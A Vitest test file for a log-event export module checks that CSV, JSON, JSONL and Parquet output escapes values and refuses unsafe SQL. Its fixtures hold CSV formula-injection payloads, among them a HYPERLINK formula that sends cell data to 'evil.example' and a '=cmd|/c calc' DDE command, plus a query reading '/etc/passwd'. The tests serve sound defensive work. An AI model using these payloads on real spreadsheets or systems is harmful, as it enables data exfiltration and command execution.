import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { exportRows, type RowsWhat } from '../../../main/store/read/export.ts'
import type { ExportFormat } from '../../../shared/api.ts'
import { everything } from '../../../shared/filter.ts'
import { addEvents, addObject, type OpenCase, openCase } from './open-case.ts'

let open: OpenCase
let files = 0
beforeAll(async () => {
  open = await openCase()
  await addEvents(open.db, [
    {
      time: '2024-01-01T10:00:00Z',
      action: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      account: '007',
      request: '{"n":12345678901234567890,"s":"=1+1","u":"\\ud83d\\ude00"}',
    },
    { time: '2024-01-01T10:00:00.123Z', action: '+1', account: '  -1', read_only: true },
    {
      time: '2024-01-01T10:00:00.123456Z',
      action: 'line\nbreak\r\n',
      account: '@SUM(A1)',
      user_agent: 'quote " comma , \' tab \t',
    },
    { time: null, action: '\tcmd', account: '\r=1', user_agent: 'nul\0nul', extra: '{"deep":{"list":[1,null,"x"]}}' },
    { time: '1969-12-31T23:59:59Z', action: 'Zoë 😀 日本 \ud800', account: '', user_agent: 'a=b', request: '"text"' },
  ])
  await addObject(open.db, {
    object_id: 1,
    events: 5,
    bytes: 9007199254740993n.toString(),
    uri: '=cmd|/c calc',
    first: '2024-01-01T10:00:00Z',
  })
})
afterAll(() => open.close())

const columns = ['time', 'action', 'account', 'user_agent', 'read_only', 'request', 'extra', 'ordinal'] as const
const events: RowsWhat = { kind: 'events', filter: everything, columns: [...columns], order: null }

async function written(
  what: RowsWhat,
  format: ExportFormat,
): Promise<{ readonly rows: number; readonly path: string; readonly text: string }> {
  const path = join(open.tmp, `it's ${++files}.part`)
  const rows = await exportRows(open.db, what, format, path)
  return { rows, path, text: format === 'parquet' ? '' : await readFile(path, 'utf8') }
}

test('it writes CSV in which no cell is a formula', async () => {
  const { rows, text } = await written(events, 'csv')
  expect(rows).toBe(5)
  expect(text).toBe(
    [
      'time,action,account,user_agent,read_only,request,extra,ordinal',
      '2024-01-01T10:00:00Z,"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",007,,,"{""n"":12345678901234567890,""s"":""=1+1"",""u"":""\\ud83d\\ude00""}",,0',
      "2024-01-01T10:00:00.123Z,'+1,'  -1,,true,,,1",
      '2024-01-01T10:00:00.123456Z,"line\nbreak\r\n",\'@SUM(A1),"quote "" comma , \' tab \t",,,,2',
      ',\'\tcmd,"\'\r=1",nul\ufffdnul,,,"{""deep"":{""list"":[1,null,""x""]}}",3',
      '1969-12-31T23:59:59Z,Zoë 😀 日本 \ufffd,"",a=b,,"""text""",,4',
      '',
    ].join('\n'),
  )
})

const none = { user_agent: null, read_only: null, request: null, extra: null }
const records = [
  {
    time: '2024-01-01T10:00:00Z',
    action: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    account: '007',
    ...none,
    request: { n: Number('12345678901234567890'), s: '=1+1', u: '😀' },
    ordinal: 0,
  },
  { time: '2024-01-01T10:00:00.123Z', action: '+1', account: '  -1', ...none, read_only: true, ordinal: 1 },
  {
    time: '2024-01-01T10:00:00.123456Z',
    action: 'line\nbreak\r\n',
    account: '@SUM(A1)',
    ...none,
    user_agent: 'quote " comma , \' tab \t',
    ordinal: 2,
  },
  {
    time: null,
    action: '\tcmd',
    account: '\r=1',
    ...none,
    user_agent: 'nul\0nul',
    extra: { deep: { list: [1, null, 'x'] } },
    ordinal: 3,
  },
  {
    time: '1969-12-31T23:59:59Z',
    action: 'Zoë 😀 日本 \ufffd',
    account: '',
    ...none,
    user_agent: 'a=b',
    request: 'text',
    ordinal: 4,
  },
]

test('it writes a JSON array with typed values', async () => {
  const { rows, text } = await written(events, 'json')
  expect([rows, JSON.parse(text)]).toEqual([5, records])
  expect(text).toContain('"n":12345678901234567890')
})

test('it writes one JSON object a line', async () => {
  const { rows, text } = await written(events, 'jsonl')
  const lines = text.split('\n')
  expect([rows, lines.length, lines.pop()]).toEqual([5, 6, ''])
  expect(lines.map((line) => JSON.parse(line))).toEqual(records)
})

test('it writes Parquet that reads back as it was', async () => {
  const { rows, path } = await written(events, 'parquet')
  const back = await open.db.rows(`SELECT * FROM read_parquet('${path.replaceAll("'", "''")}')`)
  const stored = await open.db.rows(`SELECT ${columns.join(', ')} FROM event ORDER BY ordinal`)
  expect([rows, back.rows]).toEqual([5, stored.rows])
  expect(back.columns.map(({ type }) => type)).toEqual([
    'TIMESTAMP WITH TIME ZONE',
    'VARCHAR',
    'VARCHAR',
    'VARCHAR',
    'BOOLEAN',
    'JSON',
    'JSON',
    'UINTEGER',
  ])
})

test('it writes the rows of a query, 64-bit numbers as text', async () => {
  const what: RowsWhat = {
    kind: 'sql',
    sql: `SELECT count(*) AS n, 9007199254740993 AS big, 170141183460469231731687303715884105727::HUGEINT AS huge,
        1.5 AS price, 12345678901234567890.5 AS wide, 0.1::DOUBLE AS half, 'nan'::DOUBLE AS odd, [9007199254740993] AS list,
        {'BIGINT': 9007199254740993, t: 'x'} AS "BIGINT", DATE '2024-01-02' AS day, 'a' AS "q""q", [{x: 1}] AS nested,
        '2024-01-01 00:00:00+02'::TIMESTAMPTZ AS tz, 'infinity'::TIMESTAMP AS never, 'a\\xff'::BLOB AS bytes
      FROM event; -- done`,
  }
  const { rows, text } = await written(what, 'json')
  expect([rows, JSON.parse(text)]).toEqual([
    1,
    [
      {
        n: '5',
        big: '9007199254740993',
        huge: '170141183460469231731687303715884105727',
        price: 1.5,
        wide: '12345678901234567890.5',
        half: 0.1,
        odd: 'nan',
        list: ['9007199254740993'],
        BIGINT: { BIGINT: '9007199254740993', t: 'x' },
        day: '2024-01-02',
        'q"q': 'a',
        nested: [{ x: 1 }],
        tz: '2023-12-31T22:00:00Z',
        never: 'infinity',
        bytes: '61FF',
      },
    ],
  ])
  const csv = await written(
    { kind: 'sql', sql: "SELECT -5 AS a, '-5' AS b, -0.5 AS c, [1, -2] AS d, ['=x'] AS e" },
    'csv',
  )
  expect(csv.text).toBe(`a,b,c,d,e\n-5,'-5,-0.5,"[1,-2]","[""=x""]"\n`)
})

test('it tells columns of the same name apart', async () => {
  const { text } = await written({ kind: 'sql', sql: 'SELECT 1 AS a, 2 AS a, 3 AS "A"' }, 'jsonl')
  expect(Object.values(JSON.parse(text))).toEqual([1, 2, 3])
})

test('it writes no formula as the header of a column', async () => {
  const { text } = await written({ kind: 'sql', sql: `SELECT 1 AS "=1+1", 2 AS " @x", 3 AS plain` }, 'csv')
  expect(text.split('\n')[0]).toBe(`'=1+1,' @x,plain`)
})

test('it writes the ledger', async () => {
  const { rows, text } = await written({ kind: 'objects' }, 'jsonl')
  expect([rows, JSON.parse(text)]).toEqual([
    1,
    expect.objectContaining({
      object_id: 1,
      uri: '=cmd|/c calc',
      bytes: '9007199254740993',
      first: '2024-01-01T10:00:00Z',
      last: null,
    }),
  ])
  expect((await written({ kind: 'objects' }, 'csv')).text).toContain(",'=cmd|/c calc,")
})

test.each(['csv', 'json', 'jsonl', 'parquet'] as const)('it writes an empty %s', async (format) => {
  const what: RowsWhat = { ...events, filter: { ...everything, search: 'service:nothing' } }
  const { rows, text } = await written(what, format)
  expect([rows, text.trim()]).toEqual([
    0,
    { csv: `${columns.join(',')}`, json: '[\n\t\n]', jsonl: '', parquet: '' }[format],
  ])
})

test('it writes all rows in the order asked for, however many', async () => {
  const other = await openCase()
  try {
    await other.db.run(`
      INSERT INTO event (time, format, action, object_id, ordinal)
      SELECT CASE WHEN i % 1000 <> 7 THEN TIMESTAMP '2024-01-01' + to_seconds((i * 7919) % 150000) END, 'cloudtrail', 'a' || i, i % 7, i
      FROM range(150000) AS r(i)`)
    for (const format of ['csv', 'jsonl', 'parquet'] as const) {
      for (const descending of [false, true]) {
        const path = join(other.tmp, `${format}-${descending}`)
        const order = { column: 'time', descending } as const
        const what: RowsWhat = { kind: 'events', filter: everything, columns: ['time', 'ordinal'], order }
        expect(await exportRows(other.db, what, format, path)).toBe(150_000)
        const read = { csv: 'read_csv', jsonl: 'read_json', parquet: 'read_parquet' }[format]
        const back = await other.db.all<{ ordinal: number }>(`SELECT ordinal FROM ${read}('${path}')`)
        const direction = descending ? 'DESC' : 'ASC'
        const sorted = await other.db.all<{ ordinal: number }>(
          `SELECT ordinal FROM event ORDER BY time ${direction} NULLS LAST, object_id ${direction}, ordinal ${direction}`,
        )
        expect(back.flatMap(Object.values)).toEqual(sorted.map(({ ordinal }) => ordinal))
      }
    }
  } finally {
    await other.close()
  }
})

test('it guards the SQL of an export', async () => {
  const asked = written({ kind: 'sql', sql: "SELECT * FROM read_text('/etc/passwd')" }, 'csv')
  await expect(asked).rejects.toMatchObject({ code: 'refused' })
})

test('it can be cancelled', async () => {
  const cancel = new AbortController()
  setTimeout(() => cancel.abort(), 200)
  const what: RowsWhat = { kind: 'sql', sql: 'SELECT a.i FROM range(100000) a(i), range(100000) b(j)' }
  const asked = exportRows(open.db, what, 'csv', join(open.tmp, 'cancelled'), cancel.signal)
  await expect(asked).rejects.toMatchObject({ code: 'cancelled' })
})
